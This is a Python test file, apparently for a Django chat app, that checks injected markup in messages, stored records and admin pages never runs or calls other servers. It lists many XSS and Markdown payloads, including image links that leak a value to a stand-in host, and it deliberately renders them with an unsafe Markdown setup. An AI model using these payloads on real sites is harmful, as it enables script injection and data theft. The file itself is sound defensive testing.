"""Whatever anybody says, nothing of it runs in a browser, and nothing is fetched for it from elsewhere."""

import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from markdown_it import MarkdownIt
from playwright.sync_api import ConsoleMessage, Dialog, Page, Route, expect

from convo import memory, search, turns
from convo.history import NewMessage
from convo.models import ME, Message, Person, Session, Summary, UserMemory
from tests import talk
from tests.browsing import Serve, ask
from tests.servers import Server
from tests.upstream import Upstream

pytestmark = pytest.mark.once

# Each says in `ran` which it is when it runs. The live ones do so, or ask another server for something, by
# themselves where Markdown and its HTML go onto a page as they come; see the last test.
LIVE = {
    "script": "<script>ran.push(§)</script>",
    "script of another server": "<script src=//example.invalid/§></script>",
    "onerror": "<img src=x onerror=ran.push(§)>",
    "onerror in capitals": "<IMG SRC=x ONERROR='ran.push(§)'>",
    "svg": "<svg onload=ran.push(§)></svg>",
    "ontoggle": "<details open ontoggle=ran.push(§)>d</details>",
    "media": "<video><source onerror=ran.push(§)></video>",
    "frame": "<iframe srcdoc='<script>parent.ran.push(§)</script>'></iframe>",
    "javascript: in a frame": "<iframe src='javascript:parent.ran.push(§)'></iframe>",
    "after the message box": "</textarea><script>ran.push(§)</script>",
    "after its surroundings": "</bdi></p></div></article></main><script>ran.push(§)</script>",
    "markup in an attribute": "<noscript><p title='</noscript><img src=x onerror=ran.push(§)>'></p>",
    "style": "<style>@import '//example.invalid/§';</style>",
    "stylesheet": "<link rel=stylesheet href=//example.invalid/§>",
    "image that tells": "![secret](https://example.invalid/?secret=§)",
    "image by reference": "![secret][r]\n\n[r]: //example.invalid/§",
    "image in a link": "[![secret](https://example.invalid/§)](https://example.invalid/)",
    "javascript: link": "[click](javascript:ran.push(§))",
    "javascript: in entities": "[click](javascript&#58;ran.push(§))",
    "javascript: in hexadecimal": "[click](&#x6A;avascript:ran.push(§))",
    "javascript: on its own": "<javascript:ran.push(§)>",
    "javascript: in capitals": "[click](JaVaScRiPt:ran.push(§))",
}
QUIET = {
    "data: link": "[click](data:text/html,<script>opener.ran.push(§)</script>)",
    "vbscript: link": "[click](vbscript:msgbox(§))",
    "fence with a language": '```"><img src=x onerror=ran.push(§)>\ncode\n```',
    "title of a link": '[x](https://example.org "\\" onmouseover=\\"ran.push(§)")',
    "markup cut off": "<img src=x onerror=ran.push(§) ",
    "an ending in two pieces": "a</scr" + "ipt><script>ran.push(§)//",
    "entities": "&lt;script&gt;ran.push(§)&lt;/script&gt;",
    "somewhere else": "<meta http-equiv=refresh content='0;url=//example.invalid/§'><base href=//a.invalid>",
    "names of the page's own": "<form id=composer action=//example.invalid><input id=message name=action>"
    "</form><a id=news></a><img name=body><p id=transcript class=writing>",
    "an event of the stream": 'a\n\nevent: turn.completed\ndata: {"message": {"content": "<b>b</b>"}}\n\n',
    "a template": "{{ request.csp_nonce }} {% csrf_token %}",
    "the other direction": "\u202egnp.exe \u2066\u2028 👩‍👩‍👧",
}
ATTACKS = [text.replace("§", str(n)) for n, text in enumerate([*LIVE.values(), *QUIET.values()])]
PLAIN = "default: parrot\nagents:\n  parrot:\n    recall: false\n    summaries: false\n    learn: false\n"
# Before any script of the page: what runs is noted, and every element that is put into a growing reply.
NOTE = """
window.ran = []; window.built = [];
new MutationObserver((changes) => {
  for (const { target, addedNodes } of changes)
    for (const node of addedNodes)
      if (node.nodeType === 1 && target.closest?.(".writing")) built.push(node.outerHTML);
}).observe(document, { childList: true, subtree: true });
"""
FACTS = """() => {
  const all = [...document.querySelectorAll("[id]")].map((one) => one.id);
  const links = [...document.querySelectorAll("a[href], area[href], [src], [action], form")];
  const ways = links.map((one) => new URL(one.getAttribute("href") ?? one.getAttribute("src") ??
    one.getAttribute("action") ?? "", location).protocol);
  return {
    ran, built,
    twice: all.filter((id, at) => all.indexOf(id) !== at),
    ways: [...new Set(ways)].filter((way) => !["http:", "https:", "mailto:"].includes(way)),
    forms: [...document.forms].filter((form) => new URL(form.getAttribute("action") ?? "", location).origin
      !== location.origin).length,
  };
}"""
NOTHING = {"ran": [], "built": [], "twice": [], "ways": [], "forms": 0}


class Watch:
    """What a page asks for and complains of."""

    def __init__(self, page: Page) -> None:
        self.page, self.asked, self.trouble = page, list[str](), list[str]()
        page.add_init_script(NOTE)
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("console", self._complained)
        page.on("pageerror", lambda error: self.trouble.append(f"{page.url}: {error}"))
        page.on("dialog", self._opened)

    def _complained(self, message: ConsoleMessage) -> None:
        self.trouble.append(f"{self.page.url}: {message.text}")

    def _opened(self, dialog: Dialog) -> None:
        self.trouble.append(dialog.message)
        dialog.dismiss()

    def assert_quiet(self, server: Server) -> None:
        """Nothing ran, nothing was built of words, no name is there twice, and no other server was asked."""
        told = self.page.evaluate(FACTS)
        assert {name: told[name] for name in NOTHING} == NOTHING, self.page.url
        assert self.trouble == []
        elsewhere = {url for url in self.asked if urlsplit(url).netloc != urlsplit(server.url).netloc}
        assert elsewhere == set()


@pytest.fixture
def watch(page: Page) -> Watch:
    return Watch(page)


def test_what_is_said_and_streamed_back_does_nothing(
    house: Serve, page: Page, watch: Watch, upstream: Upstream, tmp_path: Path
) -> None:
    agents = tmp_path / "agents.yaml"
    agents.write_text(PLAIN)
    env = {"OPENAI_BASE_URL": upstream.url, "CONVO_MODEL": "parrot", "CONVO_AGENTS_FILE": str(agents)}
    server = house(**env)
    page.goto(server.url)
    live, quiet = ATTACKS[: len(LIVE)], ATTACKS[len(LIVE) :]
    asked = ["\n\n".join(live[at : at + 6]) for at in range(0, len(live), 6)] + quiet
    for turn, attack in enumerate(asked, 1):
        ask(page, attack)
        expect(page.locator(f"#turn-{turn} .reply .text")).not_to_be_empty()
        expect(page.locator(f"#turn-{turn}[data-live]")).to_have_count(0)
        watch.assert_quiet(server)
        question_text = page.locator(f"#turn-{turn} .user-message .text").text_content() or ""
        assert question_text.strip() == attack.strip()
    # The streams were streams, so what grew was seen growing.
    assert any("/events" in url for url in watch.asked)
    page.reload()
    page.wait_for_load_state("networkidle")
    watch.assert_quiet(server)


@pytest.fixture
def stored(transactional_db: None) -> tuple[list[str], list[str], str]:
    """An attack in every place that takes words: our pages, the admin's, and the cookie of who sees them."""
    root = get_user_model().objects.create_superuser("root", first_name=ATTACKS[0])
    person = Person.objects.get_or_create_by_ref(root, ME)
    for attack in ATTACKS:
        Session.objects.create(owner=root, person=person, agent="assistant", title=attack)
    session = Session.objects.create(
        owner=root, person=person, agent="<b>agent</b>", title=ATTACKS[2], metadata={"note": ATTACKS[2]}
    )
    drafts = [
        NewMessage(role=role, content=attack + " walnut", name="<i>name</i>" if role == "user" else "")
        for attack in ATTACKS
        for role in ("user", "assistant")
    ]
    rows = turns.record(session, drafts)
    call = {"type": "function_call", "call_id": "c", "name": ATTACKS[2], "arguments": ATTACKS[0]}
    rows += turns.record(
        session,
        [
            NewMessage(role="user", content="call"),
            NewMessage(role="assistant", type="function_call", name=ATTACKS[2][:90], item=call),
            NewMessage(
                role="tool",
                type="function_call_output",
                content=ATTACKS[0],
                item={"type": "function_call_output", "call_id": "c", "output": ATTACKS[0]},
            ),
        ],
    )
    turn = talk.ask(session, f"{ATTACKS[2]} walnut", agent="assistant").turn
    session.turns.update(gist=ATTACKS[0], route_reason=ATTACKS[2], error={"code": "x", "message": ATTACKS[2]})
    Summary.objects.create(
        session=session, from_position=1, to_position=4, text="\n".join(ATTACKS), source="model"
    )
    for attack in ATTACKS:
        made, _ = memory.remember(person, f"{attack} walnut", kind="<b>kind")
        made.evidence.create(message=Message.objects.filter(session=session)[0])
    UserMemory.objects.filter(pk__in=UserMemory.objects.values("pk")[:5]).update(status="needs_review")
    memory.set_rules(person, ["<img src=x onerror=ran.push(99)>"])
    search.index_turns()
    client = Client()
    client.force_login(root)
    ours = [
        "/",
        f"/c/{session.pk}/",
        f"/c/{session.pk}/turns/{turn.number}/context/",
        "/conversations/",
        "/memory/",
    ]
    ours += ["/search/?q=walnut", "/sign-in/"]
    admin = ["", "convo/session/", f"convo/session/{session.pk}/change/", "convo/message/", "convo/turn/"]
    admin += ["convo/usermemory/", f"convo/usermemory/{made.pk}/change/", "convo/person/"]
    return ours, [f"/admin/{at}" for at in admin], client.cookies["sessionid"].value


def test_what_is_stored_does_nothing_on_any_page(
    stored: tuple[list[str], list[str], str], house: Serve, page: Page, watch: Watch
) -> None:
    server, (ours, admin, cookie) = house(), stored
    page.context.add_cookies([{"name": "sessionid", "value": cookie, "url": server.url}])
    for at in [*ours, *admin]:
        answer = page.goto(server.url + at)
        assert answer
        assert answer.status == 200, at
        page.wait_for_load_state("networkidle")
        watch.assert_quiet(server)


def test_the_same_words_run_and_ask_elsewhere_where_nothing_keeps_them_from_it(
    page: Page, watch: Watch
) -> None:
    careless = MarkdownIt("commonmark", {"html": True})
    careless.validateLink = lambda url: True  # type: ignore[method-assign]
    for number in range(len(LIVE)):
        html = careless.render(ATTACKS[number])
        page.route("**/*", lambda route, _, html=html: carelessly(route, html))
        page.goto("http://test.invalid/")
        for link in page.locator("a", has_text=re.compile("click|javascript")).all():
            link.click(no_wait_after=True)
        if not any("example.invalid" in url and str(number) in url for url in watch.asked):
            page.wait_for_function(f"ran.includes({number})", timeout=10_000)
        page.unroute_all()
        watch.asked.clear()


def carelessly(route: Route, html: str) -> None:
    """A server that says this on its page, and nothing anywhere else."""
    ours = route.request.url == "http://test.invalid/"
    route.fulfill(body=f"<!doctype html>{html}" if ours else "", content_type="text/html")


def test_a_growing_reply_that_is_taken_for_markup_is_seen(page: Page, watch: Watch) -> None:
    page.route("**/*", lambda route: route.fulfill(body="<p class=writing></p>", content_type="text/html"))
    page.goto("http://test.invalid/")
    page.evaluate("document.querySelector('.writing').innerHTML = '<b>bold</b>'")
    assert page.evaluate("built") == ["<b>bold</b>"]
